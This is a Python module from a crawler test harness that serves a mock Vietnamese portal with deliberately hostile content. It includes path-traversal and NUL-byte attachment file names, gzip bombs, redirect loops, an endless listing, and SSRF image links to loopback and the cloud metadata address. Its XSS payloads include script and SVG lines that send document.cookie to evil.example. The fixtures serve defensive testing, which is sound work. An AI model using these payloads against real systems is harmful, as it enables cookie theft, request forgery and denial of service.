"""Hostile input: what the replica serves when one of its hostile faults is on.

A defaced or misconfigured portal can send anything: file names that are paths, bodies of any size, bodies that
inflate a thousandfold, redirects that never end, listings that never end, markup written to run in whoever
shows it, and page requisites on the crawling machine's own addresses and its network's (request forgery). Each
hostile fault plants one kind on the main host, at URLs that answer only while it is on, and links them from one
article of the site (its "carrier", named by the ground truth like any fault's target).
This module holds the data and the markup; `replica.catalog` serves it.
"""

from __future__ import annotations

import zlib
from functools import lru_cache
from html import escape
from urllib.parse import quote

from replica.content import HOME, MAIN_HOST
from replica.media import pdf

HOSTILE_FAULTS = {
    "hostile-names": "attachments whose Content-Disposition file names are paths (../../etc/passwd, /etc/cron.d/x, "
                     "Windows paths), carry a NUL byte (raw and percent-encoded), or run to 1,000 characters, "
                     "in filename= and filename*=UTF-8'' forms",
    "huge": "a 50 MiB page (Content-Length, not compressed, streamed), and gzip bombs: an HTML page and a PNG image "
            "whose small gzip bodies (Content-Encoding: gzip) inflate to 1 GiB",
    "redirects": "a redirect loop (a → b → a) and a chain of 25 redirects",
    "endless-listing": "a listing whose ?page=N never ends: every page lists one new article and links the next page",
    "xss-variants": "an article with <script>, onerror and onload handlers, javascript: links in disguise, inline SVG "
                    "with <script>, iframe srcdoc, <meta http-equiv=refresh> and <base href> to evil.example (in the "
                    "head and in the body), and an SVG image file that carries a script",
    "ssrf": "an article whose images, script and stylesheet point at the replica's own ground truth on loopback, "
            "localhost, the cloud metadata address, a private address, IPv6 loopback and a host off the portal",
}
EVIL = "https://evil.example/"
FOLDER = f"{HOME}/kiem-thu"  # "testing": where the hostile pages live on the main host

HUGE_PAGE = f"{FOLDER}/bao-cao-rat-lon.html"
HUGE_SIZE = 50 * 1024 * 1024
BOMB_PAGE = f"{FOLDER}/phu-luc-nen.html"
BOMB_IMAGE = "/documents/20182/0/anh-nen.png"
BOMB_SIZE = 1 << 30  # what a bomb inflates to
BOMB_MEMBER = 64 << 20  # it is 16 gzip members of 64 MiB each: made in a blink, and each member alone is a bomb
LOOP = (f"{FOLDER}/vong-lap-a", f"{FOLDER}/vong-lap-b")
CHAIN = tuple(f"{FOLDER}/chuyen-huong/{n}" for n in range(1, 26))  # the last one leads home
ENDLESS = f"{FOLDER}/danh-sach-vo-tan"
SVG = "/documents/20182/0/bieu-do.svg"
# Page requisites a crawler must never fetch: the replica's control endpoint on its default port (`replica serve`),
# names and literals of this machine, the cloud metadata service, the office network, and a host off the portal.
SSRF = (
    "http://127.0.0.1:8080/_replica/truth",
    "http://localhost/x.png",
    "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/a.css",
    "http://[::1]/y.png",
    "http://evil.example/p.png",
)

_LONG_VI = ("Quyết định phê duyệt kế hoạch phát triển kinh tế xã hội huyện Thọ Xuân giai đoạn 2021-2025 "
            "và tầm nhìn đến năm 2030 ")
# (uuid, Content-Disposition as sent, the file name it gives, sent raw: h11 refuses to send a NUL byte)
NAMES = (
    ("etc-passwd", 'attachment; filename="../../etc/passwd"', "../../etc/passwd", False),
    ("cron", 'attachment; filename="/etc/cron.d/x"', "/etc/cron.d/x", False),
    ("bashrc", "attachment; filename*=UTF-8''..%2F..%2F..%2Fhome%2Fuser%2F.bashrc", "../../../home/user/.bashrc",
     False),
    ("windows", 'attachment; filename="..\\..\\Windows\\win.ini"', "..\\..\\Windows\\win.ini", False),
    ("shadow", "attachment; filename=\"bao-cao.pdf\"; filename*=UTF-8''..%2F..%2Fetc%2Fshadow", "../../etc/shadow",
     False),
    ("nul-encoded", "attachment; filename*=UTF-8''hop-dong.pdf%00.exe", "hop-dong.pdf\x00.exe", False),
    ("nul-raw", 'attachment; filename="bien-ban\x00.pdf"', "bien-ban\x00.pdf", True),
    ("long-ascii", f'attachment; filename="{"a" * 996}.pdf"', "a" * 996 + ".pdf", False),
    ("long-utf8", "attachment; filename*=UTF-8''" + quote((_LONG_VI * 10)[:996] + ".pdf"),
     (_LONG_VI * 10)[:996] + ".pdf", False),
)
GET_FILE = "/c/document_library/get_file"


def name_path(uuid: str) -> str:
    return f"{GET_FILE}?uuid=hostile-{uuid}&groupId=20182"


def absolute(path: str) -> str:
    return f"https://{MAIN_HOST}{path}"


# --- bodies -----------------------------------------------------------------------------------------------------

def huge_chunks(size: int = HUGE_SIZE, chunk: int = 1 << 16):
    """The 50 MiB page, made as it is sent: numbered paragraphs, never all in memory."""
    head = ('<!DOCTYPE html>\n<html lang="vi"><head><meta charset="utf-8"><title>Báo cáo tổng hợp</title></head>'
            '<body><h1>Báo cáo tổng hợp</h1>').encode()
    sent, n, buffer = 0, 0, bytearray(head)
    while sent < size:
        while len(buffer) < chunk:
            n += 1
            buffer += f"<p>Mục {n}: số liệu thống kê của các xã, thị trấn trong huyện Thọ Xuân.</p>\n".encode()
        piece = bytes(buffer[: min(chunk, size - sent)])
        del buffer[: len(piece)]
        sent += len(piece)
        yield piece


@lru_cache(maxsize=4)
def _member(head: bytes, filler: bytes, size: int) -> bytes:
    out = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = [out.compress(head)]
    block = filler * (1 << 20)
    left = size - len(head)
    while left > 0:
        data.append(out.compress(block[: min(left, len(block))]))
        left -= len(block)
    data.append(out.flush())
    return b"".join(data)


@lru_cache(maxsize=2)
def gzip_bomb(kind: str) -> bytes:
    """A gzip body (about 1 MB) that inflates to BOMB_SIZE: an HTML page of spaces, or a PNG of zeros."""
    if kind == "html":
        head = '<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Phụ lục</title></head><body>'.encode()
        filler = b" "
    else:
        head, filler = b"\x89PNG\r\n\x1a\n", b"\x00"
    first = _member(head, filler, BOMB_MEMBER)
    rest = _member(b"", filler, BOMB_MEMBER)
    return first + rest * (BOMB_SIZE // BOMB_MEMBER - 1)


def attachment_bytes(uuid: str) -> bytes:
    """A small PDF, different for each name (so each is its own file in the archive)."""
    return pdf(f"Tai lieu {uuid}")


SVG_BYTES = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="120" \
onload="alert('svg-file-onload')">\
<script>alert('svg-file-script');fetch('https://evil.example/svg?c='+document.cookie)</script>\
<rect width="320" height="120" fill="#a31218"/>\
<image href="https://evil.example/svg-tracker.png" width="1" height="1"/>\
<a xlink:href="javascript:alert('svg-file-link')">\
<text x="20" y="70" fill="#fff" font-size="28">Biểu đồ dân số</text></a>\
<foreignObject width="1" height="1"><iframe xmlns="http://www.w3.org/1999/xhtml" \
src="javascript:alert('svg-file-iframe')"></iframe></foreignObject>\
</svg>
""".encode()


# --- markup in the carrier articles --------------------------------------------------------------------------------

XSS_HEAD = f'<base href="{EVIL}"><meta http-equiv="refresh" content="0;url={EVIL}">'
XSS_BODY = (
    "<script>alert('script');fetch('https://evil.example/steal?c='+document.cookie)</script>"
    "<p><img src=\"khong-co-anh.png\" alt=\"\" onerror=\"alert('onerror')\"></p>"
    "<p>Chi tiết: <a href=\"javascript:alert('javascript-link')\">tài liệu</a>, "
    "<a href=\"JaVaScRiPt:alert('mixed-case')\">văn bản</a>, "
    "<a href=\"&#106;avascript&#58;alert('entities')\">phụ lục</a>, "
    "<a href=\"java&#x09;script:alert('tab')\">bảng biểu</a>.</p>"
    "<svg width=\"24\" height=\"24\" onload=\"alert('svg-onload')\"><script>alert('svg-script')</script>"
    "<a xlink:href=\"javascript:alert('svg-link')\"><circle cx=\"12\" cy=\"12\" r=\"10\"/></a></svg>"
    "<iframe srcdoc=\"&lt;script&gt;alert('srcdoc')&lt;/script&gt;\" width=\"1\" height=\"1\"></iframe>"
    f"<div style=\"background:url({EVIL}background.png)\">&nbsp;</div>"
    f"<base href=\"{EVIL}body/\"><meta http-equiv=\"refresh\" content=\"1;url={EVIL}body\">"
    f"<p><img src=\"{absolute(SVG)}\" alt=\"Biểu đồ dân số\"></p>"
    f"<p><a href=\"{absolute(SVG)}\">Biểu đồ dân số (SVG)</a></p>"
)
SSRF_BODY = (
    f'<p><img src="{SSRF[0]}" alt="" width="1" height="1"> <img src="{SSRF[1]}" alt="" width="1" height="1"></p>'
    f'<script src="{SSRF[2]}"></script><link rel=stylesheet href="{SSRF[3]}">'
    f'<p><img src="{SSRF[4]}" alt="" width="1" height="1"> <img src="{SSRF[5]}" alt="" width="1" height="1"></p>'
)


def body_html(fault: str) -> str:
    """What a hostile fault adds to its carrier article's body (absolute links: a <base> may be about)."""
    if fault == "hostile-names":
        items = "".join(f'<li><a href="{escape(absolute(name_path(uuid)))}">Tài liệu đính kèm {n}</a></li>'
                        for n, (uuid, *_rest) in enumerate(NAMES, 1))
        return f"<div><div>Tài liệu tham khảo:</div><ul>{items}</ul></div>"
    if fault == "huge":
        return (f'<p>Xem <a href="{absolute(HUGE_PAGE)}">báo cáo đầy đủ</a> và '
                f'<a href="{absolute(BOMB_PAGE)}">phụ lục</a>.</p>'
                f'<p><img src="{absolute(BOMB_IMAGE)}" alt="" width="1" height="1"></p>')
    if fault == "redirects":
        return (f'<p>Xem thêm <a href="{absolute(LOOP[0])}">chuyên mục cũ</a> và '
                f'<a href="{absolute(CHAIN[0])}">trang lưu trữ</a>.</p>')
    if fault == "endless-listing":
        return f'<p>Danh sách <a href="{absolute(ENDLESS)}">các văn bản liên quan</a>.</p>'
    if fault == "xss-variants":
        return XSS_BODY
    if fault == "ssrf":
        return SSRF_BODY
    return ""


def head_html(fault: str) -> str:
    return XSS_HEAD if fault == "xss-variants" else ""


def targets() -> dict[str, dict]:
    """What each hostile fault serves, for the ground truth."""
    return {
        "hostile-names": {"attachments": [{"url": absolute(name_path(uuid)), "content_disposition": value,
                                           "filename": name, "sent_raw": raw}
                                          for uuid, value, name, raw in NAMES]},
        "huge": {"page": absolute(HUGE_PAGE), "page_size": HUGE_SIZE, "bomb_page": absolute(BOMB_PAGE),
                 "bomb_image": absolute(BOMB_IMAGE), "inflates_to": BOMB_SIZE},
        "redirects": {"loop": [absolute(p) for p in LOOP], "chain": [absolute(p) for p in CHAIN],
                      "chain_end": absolute(HOME)},
        "endless-listing": {"listing": absolute(ENDLESS), "items": absolute(f"{ENDLESS}/bai-so-N.html")},
        "xss-variants": {"svg": absolute(SVG), "evil": EVIL},
        "ssrf": {"requisites": list(SSRF)},
    }
